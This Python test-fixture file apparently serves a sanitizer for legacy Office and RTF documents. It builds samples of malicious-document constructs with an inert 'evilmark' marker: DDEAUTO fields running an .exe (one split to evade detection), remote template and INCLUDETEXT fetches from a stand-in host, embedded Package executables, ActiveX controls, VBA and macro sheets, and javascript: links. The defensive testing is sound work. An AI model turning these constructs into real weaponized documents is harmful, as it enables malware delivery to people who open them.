# SPDX-License-Identifier: MIT
"""Everything that must not come out of a document of the kinds before OOXML, each in a document of its own."""
import struct

from legacy_documents import (MACRO_SHEET, VERY_HIDDEN, HIDDEN, doc, escaped, field, record, rtf, sheet, xls, xlsb)

EVIL = "evilmark"  # Nobody may find it in what comes out,
KEPT = "浄水場の記録"  # and everybody this.
VBA = {"VBA": {"dir": EVIL.encode() * 20, "_VBA_PROJECT": EVIL.encode(), "M": EVIL.encode()}, "PROJECT": EVIL.encode()}


def ansi(text):
    return struct.pack("<I", len(text) + 1) + text.encode("ascii") + b"\0"


def ole1(kind, data, linked=False):
    """MS-OLEDS 2.2.4, 2.2.6"""
    head = struct.pack("<II", 0x501, 1 if linked else 2) + ansi(kind)
    if linked:
        return head + ansi("http://" + EVIL + "/a.doc") + ansi(EVIL) + ansi("") + struct.pack("<III", 0, 0, 0)
    return head + struct.pack("<II", 0, 0) + struct.pack("<I", len(data)) + data


def rtf_object(words, kind, data, linked=False):
    return (f"{{\\object{words}\\objw800\\objh800{{\\*\\objclass {kind}}}{{\\*\\objdata {ole1(kind, data, linked).hex()}}}"
            "{\\result shown}}")


def rtf_field(instruction, result="shown"):
    return f"{{\\field{{\\*\\fldinst {instruction}}}{{\\fldrslt {result}}}}}"


PACKAGE = struct.pack("<H", 2) + f"{EVIL}.exe\0C:\\{EVIL}.exe\0".encode() + struct.pack("<HHI", 0, 3, 20) + EVIL.encode() * 9


def rich_text():
    """name -> (RTF within a document, the word that tells of it)"""
    address = f"http://{EVIL}.example/a"
    return {
        "package": (rtf_object("\\objemb", "Package", PACKAGE), "embedded-object"),
        "equation": (rtf_object("\\objemb\\objupdate", "Equation.3", b"\x1c\0\0\0" + EVIL.encode() * 9), "embedded-object"),
        "automatic-link": (rtf_object("\\objautlink\\objupdate", "Word.Document.8", b"", True), "external-link"),
        "link": (rtf_object("\\objlink", "Excel.Sheet.8", b"", True), "external-link"),
        "control": (rtf_object("\\objocx", "Forms.CommandButton.1", EVIL.encode() * 9), "activex-control"),
        "data-without-object": ("{\\*\\objdata " + ole1("Package", PACKAGE).hex() + "}", "embedded-object"),
        "dde": (rtf_field(f"DDE excel {EVIL} a"), "active-field"),
        "dde-auto": (rtf_field(f"DDEAUTO c:\\\\\\\\{EVIL}.exe a"), "active-field"),
        "dde-in-pieces": (rtf_field(f"{{ DD}}{{\\'45}}{{\\u65?U}}TO c:\\\\\\\\{EVIL}.exe"), "active-field"),
        "include-text": (rtf_field(f'INCLUDETEXT "{address}"'), "active-field"),
        "include-picture": (rtf_field(f'INCLUDEPICTURE "{address}.png" \\\\d'), "active-field"),
        "link-field": (rtf_field(f"LINK Excel.Sheet.8 {EVIL}.xls a"), "active-field"),
        "macro-button": (rtf_field(f"MACROBUTTON {EVIL} shown"), "active-field"),
        "link-to-a-file": (rtf_field(f'HYPERLINK "file:///{EVIL}.exe"'), "hyperlink"),
        "link-to-a-script": (rtf_field(f'HYPERLINK "javascript:{EVIL}"'), "hyperlink"),
        "template": (f"{{\\*\\template {address}.dotm}}", "template"),
        "properties": (f"{{\\info{{\\title {EVIL}}}{{\\author {EVIL}}}}}", "metadata"),
        "own-properties": (f"{{\\*\\userprops {{\\propname {EVIL}}}\\proptype30{{\\staticval {EVIL}}}}}", None),
        "variables": (f"{{\\*\\docvar {{{EVIL}}}{{{EVIL}}}}}", None),
        "generator": (f"{{\\*\\generator {EVIL};}}", None),
        "custom-xml": (f"{{\\*\\datastore {(EVIL * 9).encode().hex()}}}", None),
        "unknown-destination": (f"{{\\*\\{EVIL} {EVIL}}}", None),
        "binary": ("{\\*\\nothing\\bin8 " + EVIL + "}", None),
    }


def word():
    """name -> (text, storages, template, the word)"""
    address = f"http://{EVIL}.example/a"
    fields = {"dde": f"DDE excel {EVIL} a", "dde-auto": f"DDEAUTO c:\\\\{EVIL}.exe a", "include-text": f'INCLUDETEXT "{address}"',
              "include-picture": f'INCLUDEPICTURE "{address}.png" \\d', "link": f"LINK Excel.Sheet.8 {EVIL}.xls a",
              "macro-button": f"MACROBUTTON {EVIL} shown"}
    return {
        **{name: (field(" " + instruction + " ", "shown"), {}, None, "active-field") for name, instruction in fields.items()},
        "link-to-a-file": (field(f' HYPERLINK "file:///{EVIL}.exe" ', "shown"), {}, None, "hyperlink"),
        "macros": ("", {"Macros": VBA}, None, "macros"),
        "object": ("", {"ObjectPool": {"_1": {"\1Ole10Native": EVIL.encode() * 40, "\3ObjInfo": b"\0" * 6}}}, None, "embedded-object"),
        "equation": ("", {"ObjectPool": {"_2": {"Equation Native": EVIL.encode() * 40, "\1CompObj": b"\0" * 20}}}, None,
                     "embedded-object"),
        "control": ("", {"ObjectPool": {"_3": {"\3OCXNAME": EVIL.encode("utf-16-le"), "\3OCXDATA": EVIL.encode() * 9}}}, None,
                    "activex-control"),
        "template": ("", {}, address + ".dotm", "template"),
        "properties": ("", {"\5SummaryInformation": EVIL.encode() * 9}, None, "metadata"),
        "another-stream": ("", {EVIL: EVIL.encode() * 99}, None, None),
    }


def linked_book(path, names=b""):
    """SupBook, ExternSheet (2.4.271, 2.4.106): sheet 0 of it is the workbook at `path`."""
    book = struct.pack("<HHB", 1, len(path), 1) + path.encode("utf-16-le") + struct.pack("<HB", 1, 1) + "S".encode("utf-16-le")
    return record(0x01AE, book) + names + record(0x0017, struct.pack("<HHHH", 1, 0, 0, 0))


def excel():
    """name -> (cells beside the first, records of the globals, records of the sheet, storages, the word)"""
    reference = b"\x5a" + struct.pack("<HHH", 0, 0, 0)  # PtgRef3d
    name = b"\x59" + struct.pack("<HHH", 0, 1, 0)  # PtgNameX
    item = record(0x0023, struct.pack("<HIBB", 0x7FEA, 0, len(EVIL), 0) + EVIL.encode())
    dde = struct.pack("<HHB", 0, len(EVIL) * 2 + 1, 1) + f"{EVIL}\3{EVIL}".encode("utf-16-le")
    file = f"{EVIL}.exe".encode() + b"\0"
    # Hlink, [MS-OSHARED] 2.3.7.6: a file moniker.
    link = (struct.pack("<HHHH", 0, 0, 0, 0) + bytes.fromhex("d0c9ea79f9bace118c8200aa004ba90b") + struct.pack("<II", 2, 1)
            + bytes.fromhex("0303000000000000c000000000000046") + struct.pack("<HI", 0, len(file)) + file
            + struct.pack("<HH20sI", 0xFFFF, 0xDEAD, b"", 0))
    return {
        "external-book": ([(1, 0, reference)], linked_book(f"\1http://{EVIL}.example/\1b.xls"), b"", {}, "external-link"),
        "dde": ([(1, 0, name)], record(0x01AE, dde) + item + record(0x0017, struct.pack("<HHHH", 1, 0, 0xFFFE, 0xFFFE)), b"", {},
                "external-link"),
        "connection": ([], record(0x0876, struct.pack("<HH", 0x0876, 0) + EVIL.encode() * 4), b"", {}, "data-connection"),
        "link-to-a-file": ([], b"", record(0x01B8, link), {}, "hyperlink"),
        "macros": ([], b"", b"", {"_VBA_PROJECT_CUR": VBA}, "macros"),
        "object": ([], b"", b"", {"MBD0001": {"\1Ole10Native": EVIL.encode() * 40}}, "embedded-object"),
        "controls": ([], b"", b"", {"Ctls": EVIL.encode() * 40}, "activex-control"),
        "properties": ([], b"", b"", {"\5DocumentSummaryInformation": EVIL.encode() * 9}, "metadata"),
        "comment-record": ([], record(0x005C, EVIL.encode().ljust(112)), b"", {}, None),
    }


def all_constructs():
    """(name, bytes, the word that must tell of it or None) of documents that are rebuilt."""
    for name, (body, told) in rich_text().items():
        yield f"{name}.rtf", rtf(escaped(KEPT) + "\\par " + body), told
    for name, (text, storages, template, told) in word().items():
        yield f"{name}.doc", doc(KEPT + "\n" + text, storages, template), told
    for name, (cells, more, of_sheet, storages, told) in excel().items():
        yield f"{name}.xls", xls([sheet(KEPT, [(0, 0, KEPT), *cells], more=of_sheet)], more, storages), told
    for name, state in (("hidden", HIDDEN), ("very-hidden", VERY_HIDDEN)):
        yield f"{name}.xls", xls([sheet(KEPT, [(0, 0, KEPT)]), sheet("裏", [(0, 0, "見えない")], state=state)]), "hidden-sheet"
    yield "hidden.xlsb", xlsb([(KEPT, [KEPT], 0), ("裏", ["見えない"], 1)]), "hidden-sheet"
    yield "macros.xlsb", xlsb([(KEPT, [KEPT], 0)], {"xl/vbaProject.bin": EVIL * 40}), "macros"


def refused():
    """(name, bytes, what the scanner of types says) of those that are not."""
    file_pass = record(0x002F, struct.pack("<HHH", 0, 1, 2))
    plain = [sheet(KEPT, [(0, 0, KEPT)])]
    padding = record(0x0042, b"\xb0\4") * 400
    locked_word = bytearray(doc(KEPT))
    at = locked_word.find(struct.pack("<HH", 0xA5EC, 0xC1))
    locked_word[at + 11] |= 1
    yield "locked.xls", xls(plain, file_pass), "encrypted"
    yield "locked-far-down.xls", xls(plain, padding + file_pass), "encrypted"
    yield "locked-behind.xls", xls([sheet(KEPT, [(0, 0, KEPT)], more=file_pass)]), "encrypted"
    yield "locked.doc", bytes(locked_word), "encrypted"
    yield "macro-sheet.xls", xls([*plain, sheet("M", [(0, 0, EVIL)], MACRO_SHEET)]), "macro-sheet"
    yield "macro-sheet-unlisted.xls", xls([*plain, sheet("M", [(0, 0, EVIL)], MACRO_SHEET, listed_as=0)]), "macro-sheet"
    yield "macro-sheet-listed.xls", xls([*plain, sheet("M", [(0, 0, EVIL)], listed_as=1)]), "macro-sheet"
